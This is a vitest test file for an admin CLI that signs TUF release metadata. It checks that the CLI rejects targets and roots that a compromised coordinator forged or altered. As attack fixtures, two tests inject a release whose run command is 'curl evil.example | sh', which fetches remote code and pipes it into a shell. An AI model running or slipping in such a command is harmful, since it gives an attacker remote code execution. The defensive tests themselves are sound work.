/**
 * The admin's CLI does not sign on top of metadata a compromised coordinator altered: every
 * `release create` re-signs all targets already there, so it first checks them against the TUF
 * root this admin pinned, and the root against the chain of roots from the pinned one.
 */
import { execFileSync } from "node:child_process";
import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Metadata, MetadataKind, Signature, type Root, type Targets } from "@tufjs/models";
import { nextRoot, signMetadata } from "@flotilla/cli/testing";
import { loadIdentity, tufKeyId } from "@flotilla/protocol";
import { describe, expect, it } from "vitest";
import { artifact, createRelease, signedFleet, tufDir } from "./support/releases.ts";
import { useSandbox } from "./support/use-sandbox.ts";

const sb = useSandbox();

const latestTargets = async (dir: string) => Math.max(...(await readdir(dir)).map((f) => /^(\d+)\.targets\.json$/.exec(f)?.[1]).filter((v) => v !== undefined).map(Number));

const metadataFiles = async (dir: string) => (await readdir(dir)).filter((f) => /^\d+\.(root|targets)\.json$/.test(f)).sort();

describe("the admin's trust in the organization's signing root", () => {
  it("refuses to sign new targets when the coordinator slipped a target into the current ones", async () => {
    const fleet = await signedFleet(sb);
    const dir = await sb.dir();
    await createRelease(fleet, (await artifact(dir, "app.tar.gz", 10_000)).path, "app", "1.0.0");
    const repo = await tufDir(fleet);
    const file = join(repo, "2.targets.json");
    const targets = JSON.parse(await readFile(file, "utf8")) as { signed: { targets: Record<string, unknown> } };
    const [[path, entry]] = Object.entries(targets.signed.targets) as [[string, { custom: { flotilla: Record<string, unknown> } }]];
    // The coordinator adds a release of its own, keeping the admins' signatures of the rest.
    targets.signed.targets[path.replace("app/1/", "app/2/")] = { ...entry, custom: { flotilla: { ...entry.custom.flotilla, counter: 2, run: "curl evil.example | sh" } } };
    await writeFile(file, JSON.stringify(targets));
    const before = await metadataFiles(repo);

    const r = await fleet.admin(["release", "create", (await artifact(dir, "next.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.1", "--run", "bin/app"]);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split("\n")).toEqual([
      "error: the organization's targets metadata (version 2) is not signed by the threshold of the current root (version 1) this admin verified: refusing to sign on top of it",
    ]);
    expect(await metadataFiles(repo)).toEqual(before);
    expect((await fleet.adminJson<{ version: string }[]>(["release", "ls"])).map((x) => x.version)).toEqual(["1.0.0"]);
  });

  it("refuses targets signed only by a key the admins removed from the root, which a compromised coordinator presents", async () => {
    const fleet = await signedFleet(sb);
    const dir = await sb.dir();
    const owner = join(fleet.adminHome, "admin.key");
    // Two signing keys, threshold 1: the owner's, and a second one that later leaks.
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "leaked")]);
    const leaked = await loadIdentity(join(dir, "leaked"));
    const leakedId = tufKeyId(leaked.publicKey);
    const add = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "leaked")]);
    expect(add.code, add.stderr).toBe(0);
    await createRelease(fleet, (await artifact(dir, "app.tar.gz", 10_000)).path, "app", "1.0.0");
    // The leaked key is removed from the root.
    const remove = await fleet.admin(["signing-key", "add", "--remove", leakedId]);
    expect(remove.code, remove.stderr).toBe(0);
    expect(remove.stdout).toMatch(/^root version 3: 1 signing keys, threshold 1; targets re-signed under it as version 4$/m);
    expect((await fleet.adminJson<{ version: number; keys: { keyId: string }[] }>(["signing-key", "ls"])).keys.map((k) => k.keyId)).not.toContain(leakedId);

    // The coordinator, holding the leaked key, presents new targets with a release of its own,
    // signed by the leaked key alone.
    const repo = await tufDir(fleet);
    const v = await latestTargets(repo);
    const current = Metadata.fromJSON(MetadataKind.Targets, JSON.parse(await readFile(join(repo, `${v}.targets.json`), "utf8"))) as Metadata<Targets>;
    type Entry = { custom: { flotilla: Record<string, unknown> } };
    const json = current.signed.toJSON() as { targets: Record<string, Entry> };
    const [[path, entry]] = Object.entries(json.targets) as [[string, Entry]];
    const forged = Metadata.fromJSON(MetadataKind.Targets, {
      signatures: [],
      signed: { ...json, version: v + 1, targets: { ...json.targets, [path.replace("app/1/", "app/2/")]: { ...entry, custom: { flotilla: { ...entry.custom.flotilla, counter: 2, run: "curl evil.example | sh" } } } } },
    } as never);
    forged.sign((data) => new Signature({ keyID: leakedId, sig: Buffer.from(leaked.sign(data)).toString("hex") }));
    await writeFile(join(repo, `${v + 1}.targets.json`), JSON.stringify(forged.toJSON()));
    const before = await metadataFiles(repo);

    const r = await fleet.admin(["release", "create", (await artifact(dir, "next.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.1", "--run", "bin/app"]);
    expect(r.stderr.trim().split("\n")).toEqual([
      `error: the organization's targets metadata (version ${v + 1}) is not signed by the threshold of the current root (version 3) this admin verified: refusing to sign on top of it`,
    ]);
    expect(r.code).toBe(1);
    expect(await metadataFiles(repo)).toEqual(before);
    expect((await fleet.adminJson<{ version: string }[]>(["release", "ls"])).map((x) => x.version)).toEqual(["1.0.0"]);
  });

  it("refuses a root the coordinator made up, and follows a rotation the admins signed, also on another admin's machine", async () => {
    const fleet = await signedFleet(sb);
    const dir = await sb.dir();
    const repo = await tufDir(fleet);
    const root1 = Metadata.fromJSON(MetadataKind.Root, JSON.parse(await readFile(join(repo, "1.root.json"), "utf8"))) as Metadata<Root>;
    const onlineKeyHex = Object.values(root1.signed.keys).find((k) => root1.signed.roles.snapshot?.keyIDs.includes(k.keyID))!.keyVal.public!;

    // The coordinator writes root version 2 with a key of its own, signed by that key alone.
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "outsider")]);
    const outsider = await loadIdentity(join(dir, "outsider"));
    const ownerKeyId = root1.signed.roles.root!.keyIDs[0]!;
    const forged = new Metadata(nextRoot({ previous: root1.signed, add: [outsider.publicKey], remove: [ownerKeyId], onlineKeyHex, expiresMs: Date.now() + 86_400_000 }));
    await signMetadata(forged, [{ keyId: forged.signed.roles.root!.keyIDs[0]!, label: "outsider", publicKey: outsider.publicKey, sign: (d: Uint8Array) => Promise.resolve(outsider.sign(d)) }]);
    await writeFile(join(repo, "2.root.json"), JSON.stringify(forged.toJSON()));

    for (const args of [
      ["release", "create", (await artifact(dir, "app.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.0", "--run", "bin/app"],
      ["signing-key", "add", "--key-file", join(dir, "outsider")],
    ]) {
      const r = await fleet.admin(args);
      expect(r.code, args.join(" ")).toBe(1);
      expect(r.stderr.trim().split("\n"), args.join(" ")).toEqual([expect.stringMatching(/^error: root version 2 from the coordinator is not signed by the threshold of root version 1: /)]);
    }
    expect(await metadataFiles(repo)).toEqual(["1.root.json", "1.targets.json", "2.root.json"]);

    // Put right, a rotation the admins sign (the owner's key and a second one, threshold 2) is
    // followed, and a second admin's machine that first sees the organization at root version 2
    // verifies the chain from version 1.
    execFileSync("rm", [join(repo, "2.root.json")]);
    const owner = join(fleet.adminHome, "admin.key");
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "second")]);
    const rotate = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "second"), "--threshold", "2"]);
    expect(rotate.code, rotate.stderr).toBe(0);
    const release = await fleet.admin(["release", "create", (await artifact(dir, "app2.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.0", "--run", "bin/app", "--key-file", owner, "--key-file", join(dir, "second")]);
    expect(release.code, release.stderr).toBe(0);

    const token = (await fleet.admin(["token", "create", "ci", "--role", "deployer"])).stdout.trim().split("\n").pop()!;
    const elsewhere = await sb.dir("flotilla-admin-");
    const ci = await sb.run(["--coordinator", fleet.url, "release", "create", (await artifact(dir, "app3.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.1", "--run", "bin/app", "--key-file", owner, "--key-file", join(dir, "second")], { FLOTILLA_HOME: elsewhere, FLOTILLA_TOKEN: token });
    expect(ci.code, ci.stderr).toBe(0);
    const pinned = await readdir(join(elsewhere, "tuf-roots"));
    expect(pinned).toHaveLength(1);
    const chain = JSON.parse(await readFile(join(elsewhere, "tuf-roots", pinned[0]!), "utf8")) as { roots: { signed: { version: number } }[] };
    expect(chain.roots.map((r) => r.signed.version)).toEqual([1, 2]);
  });
});
